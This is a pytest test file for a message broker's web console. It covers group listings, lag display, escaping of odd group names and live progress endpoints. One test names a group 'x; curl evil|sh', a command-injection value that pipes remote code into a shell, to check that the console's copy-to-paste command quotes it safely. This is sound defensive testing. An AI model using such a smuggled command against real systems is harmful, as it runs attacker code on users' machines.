from __future__ import annotations

import asyncio
import re
from urllib.parse import quote

import httpx
import pytest
from fastapi import FastAPI

from app.client.groups import Committed, GroupClient, ListedGroup, ShareProgress
from app.core.errors import BrokerUnavailable
from app.core.units import BrokerId, Offset, PartitionIndex, TopicPartition
from app.http.gateway import Gateway


async def committed(application: FastAPI, group: str, offset: int) -> None:
    gateway: Gateway = application.state.gateway
    await gateway.groups.commit(group, {TopicPartition("t", PartitionIndex(0)): offset})


async def test_groups_are_listed_and_each_has_its_lag(
    http: httpx.AsyncClient, cluster: str, application: FastAPI
) -> None:
    assert "There is no group that you may see." in (await http.get("/console/groups")).text
    await http.post(f"{cluster}/topics", json={"topic_name": "t"})
    for value in range(5):
        assert (await http.post(f"{cluster}/topics/t/records", json={"value": {"data": value}})).is_success
    await committed(application, "team/a <b>", 2)
    await committed(application, "other", 5)
    listed = (await http.get("/console/groups")).text
    assert "team/a &lt;b&gt;" in listed
    assert '/console/groups/team%2Fa%20%3Cb%3E"' in listed
    assert "team/a" not in (await http.get("/console/groups?q=oth")).text
    one = await http.get("/console/groups/team%2Fa%20%3Cb%3E")
    assert one.status_code == 200, one.text
    assert '<td data-label="Lag" class="n">3</td>' in one.text
    assert "/console/topics/t/messages?partition=0&amp;offset=2" in one.text
    assert 'data-gauge="lag">3</p>' in one.text
    assert 'data-live="/console/groups/team%2Fa%20%3Cb%3E/live"' in one.text


async def test_the_list_has_the_lag_of_its_groups_as_far_as_a_page_asks(
    http: httpx.AsyncClient, cluster: str, application: FastAPI, monkeypatch: pytest.MonkeyPatch
) -> None:
    await http.post(f"{cluster}/topics", json={"topic_name": "t"})
    for value in range(5):
        assert (await http.post(f"{cluster}/topics/t/records", json={"value": {"data": value}})).is_success
    await committed(application, "behind", 2)
    await committed(application, "done", 5)

    async def lags() -> dict[str, str]:
        text = (await http.get("/console/groups")).text
        rows = re.findall(
            r'data-label="Group"><a href="/console/groups/([^"]+)">.*?data-label="Lag"[^>]*>(.*?)</td>', text, re.S
        )
        return {name: re.sub("<[^>]+>", "", lag) for name, lag in rows}

    assert await lags() == {"behind": "3", "done": "0"}
    monkeypatch.setattr("app.http.console.pages.groups.LAGGING_PARTITIONS_MAX", 1)
    assert await lags() == {"behind": "3", "done": "–"}


def lists_groups(monkeypatch: pytest.MonkeyPatch, kind: str = "consumer") -> None:
    async def listed(self: GroupClient, node_id: BrokerId, *_: object) -> list[ListedGroup]:
        return [ListedGroup(f"g{number:02}", kind, kind, "Stable", node_id) for number in range(20)]

    monkeypatch.setattr(GroupClient, "groups_at", listed)


@pytest.mark.parametrize("kind", ["consumer", "share"])
async def test_offsets_of_large_groups_come_a_few_at_a_time_until_the_page_has_enough(
    http: httpx.AsyncClient, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    asked: list[str] = []
    under_way = most = 0

    async def came(group_id: str) -> None:
        nonlocal under_way, most
        asked.append(group_id)
        under_way += 1
        most = max(most, under_way)
        await asyncio.sleep(0)
        under_way -= 1

    async def committed(self: GroupClient, group_id: str) -> dict[TopicPartition, Committed]:
        await came(group_id)
        return {TopicPartition("t", PartitionIndex(index)): Committed(Offset(0), -1, "") for index in range(2_001)}

    async def progress(self: GroupClient, group_id: str) -> dict[TopicPartition, ShareProgress]:
        await came(group_id)
        return {TopicPartition("t", PartitionIndex(index)): ShareProgress(Offset(0), 4) for index in range(2_001)}

    lists_groups(monkeypatch, kind)
    monkeypatch.setattr(GroupClient, "committed", committed)
    monkeypatch.setattr(GroupClient, "share_progress", progress)
    assert (await http.get("/console/groups")).status_code == 200
    assert asked == ["g00", "g01", "g02"]
    assert most == 3


async def test_a_coordinator_that_does_not_respond_is_asked_for_few_groups(
    http: httpx.AsyncClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    asked: list[str] = []

    async def committed(self: GroupClient, group_id: str) -> dict[TopicPartition, Committed]:
        asked.append(group_id)
        raise BrokerUnavailable("It does not respond.")

    lists_groups(monkeypatch)
    monkeypatch.setattr(GroupClient, "committed", committed)
    text = (await http.get("/console/groups")).text
    assert "g19" in text
    assert 1 <= len(asked) <= 3


async def test_a_share_group_has_its_own_mark_and_lag(
    http: httpx.AsyncClient, cluster: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    async def listed(self: GroupClient, node_id: BrokerId, *_: object) -> list[ListedGroup]:
        return [ListedGroup("workers", "share", "share", "Stable", node_id)]

    async def progress(*_: object) -> dict[TopicPartition, ShareProgress]:
        return {
            TopicPartition("t", PartitionIndex(index)): ShareProgress(Offset(0), lag) for index, lag in enumerate(lags)
        }

    lags: list[int | None] = [4, 4]
    monkeypatch.setattr(GroupClient, "groups_at", listed)
    monkeypatch.setattr(GroupClient, "share_progress", progress)
    text = (await http.get("/console/groups")).text
    assert '<span class="tag share">share</span>' in text
    assert '<a href="/console/groups/workers">8</a>' in text
    lags[1] = None
    assert '<td data-label="Lag" class="n">–</td>' in (await http.get("/console/groups")).text


async def test_the_command_of_a_group_is_safe_to_paste(
    http: httpx.AsyncClient, cluster: str, application: FastAPI
) -> None:
    await http.post(f"{cluster}/topics", json={"topic_name": "t"})
    for name in ("x; curl evil|sh", "x; curl evil|sh\n"):
        await committed(application, name, 0)
    one = (await http.get(f"/console/groups/{quote('x; curl evil|sh')}")).text
    assert re.search(r'data-copy="firn group describe &#39;x; curl evil\|sh&#39; -b 127\.0\.0\.1:\d+"', one), one
    two = await http.get(f"/console/groups/{quote('x; curl evil|sh' + chr(10))}")
    assert two.status_code == 200
    assert "data-copy" not in two.text


async def test_a_group_that_there_is_not_is_404(http: httpx.AsyncClient, cluster: str) -> None:
    assert (await http.get("/console/groups/none")).status_code == 404


async def test_the_script_of_a_group_gets_its_lag_and_what_rates_are_made_of(
    http: httpx.AsyncClient, cluster: str, application: FastAPI
) -> None:
    await http.post(f"{cluster}/topics", json={"topic_name": "t"})
    for step in range(5):
        await http.post(f"{cluster}/topics/t/records", json={"value": {"data": step}})
    await committed(application, "g", 2)
    page = (await http.get("/console/groups/g")).text
    assert 'data-live="/console/groups/g/live"' in page
    assert re.search(r'data-gauge="lag">3<', page)
    first = (await http.get("/console/groups/g/live")).json()
    assert (first["counters"], first["gauges"]) == ({"done": 2, "written": 5}, {"lag": 3})
    await committed(application, "g", 4)
    await http.post(f"{cluster}/topics/t/records", json={"value": {"data": 5}})
    later = (await http.get("/console/groups/g/live")).json()
    assert (later["counters"], later["gauges"]) == ({"done": 4, "written": 6}, {"lag": 2})
    assert later["at_s"] > first["at_s"]


async def test_the_script_of_a_share_group_gets_its_progress(
    http: httpx.AsyncClient, cluster: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    async def progress(*_: object) -> dict[TopicPartition, ShareProgress]:
        return {
            TopicPartition("t", PartitionIndex(index)): ShareProgress(Offset(10), lag) for index, lag in enumerate(lags)
        }

    lags: list[int | None] = [4, 0]
    monkeypatch.setattr(GroupClient, "share_progress", progress)
    told = (await http.get("/console/groups/workers/live?share=1")).json()
    assert (told["counters"], told["gauges"]) == ({"done": 20, "written": 24}, {"lag": 4})
    lags[1] = None
    refused = await http.get("/console/groups/workers/live?share=1")
    assert refused.status_code == 503, "a part is no lag"
    assert "t-1" in refused.text
